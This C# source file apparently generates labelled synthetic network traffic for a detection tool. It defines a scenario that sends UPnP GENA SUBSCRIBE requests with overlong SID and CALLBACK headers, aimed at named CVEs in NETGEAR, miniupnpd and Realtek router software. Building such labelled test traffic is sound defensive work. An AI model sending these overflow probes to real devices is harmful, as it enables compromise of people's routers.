using Analyzer.Labels;
using Analyzer.Generation.Messages;

namespace Analyzer.Generation.Scenarios;

/// <summary>
/// GENA header overflows against event URLs: a SUBSCRIBE renewal whose SID is hundreds of bytes (NETGEAR upnpd,
/// CVE-2021-34991), a CALLBACK URL long enough to truncate miniupnpd's NOTIFY header (CVE-2019-12107), and a
/// CALLBACK whose port runs into garbage instead of '/' (Realtek SDK, CVE-2021-35393).
/// </summary>
public sealed class GenaOverlongHeadersScenario : AttackScenario
{
    public override string Name => "gena-overlong-headers";
    public override string Description => "attack: SUBSCRIBE with a 300-byte SID, a 1,500-byte CALLBACK and a malformed CALLBACK port";
    public override string Category => LabelNames.ExploitAttempt;

    public override long Attack(ScenarioContext ctx, long t)
    {
        var net = ctx.Network;
        var random = ctx.Random;
        var attacker = net.Camera.Host;
        var router = net.RouterLan.V4;
        var igd = net.Igd;
        string hostPort = ScenarioContext.HostPort(router.Address, igd.ControlPort);
        var style = ctx.Variation.ScriptHttp;
        string userAgent = AttackTools.PickUserAgent(random);

        var probes = new (string Threat, byte[] Request, string Detail)[]
        {
            ("gena-subscribe-uuid-overflow", GenaMessages.Renew(style, hostPort, igd.EventPath, "uuid:" + new string('A', 300)),
                "SID of 305 bytes"),
            ("gena-miniupnpd-event-leak", GenaMessages.Subscribe(style, hostPort, igd.EventPath,
                $"<http://{attacker.Ipv4}:8080/{new string('C', 1500)}>", userAgent), "CALLBACK URL of 1,530 bytes"),
            ("soap-realtek-subscribe-overflow", GenaMessages.Subscribe(style, hostPort, igd.EventPath,
                $"<http://{attacker.Ipv4}:4444{new string('\x41', 64)}>", userAgent), "CALLBACK port followed by 64 bytes, no '/'"),
        };
        foreach (var probe in probes)
        {
            long at = t + random.Next(500_000, 2_000_000);
            t = ctx.HttpExchange(at, attacker.V4, router, igd.ControlPort, probe.Request,
                time => GenaMessages.PreconditionFailed(igd.Server, time));
            ctx.Mark(LabelNames.ExploitAttempt, probe.Threat, attacker.Ipv4, router.Address, at, t, probe.Detail);
        }
        return t;
    }
}
